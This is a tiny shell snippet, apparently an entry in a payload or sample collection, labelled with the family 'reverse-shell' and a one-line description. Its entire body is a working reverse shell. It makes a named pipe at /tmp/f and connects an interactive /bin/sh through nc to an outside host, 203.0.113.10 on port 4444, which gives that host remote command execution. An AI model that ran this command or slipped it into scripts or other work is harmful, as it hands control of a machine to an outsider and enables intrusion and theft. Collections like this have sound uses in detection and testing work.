# description: Wires sh to a remote host through a named pipe and nc.
# family: reverse-shell
rm -f /tmp/f
mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.10 4444 > /tmp/f
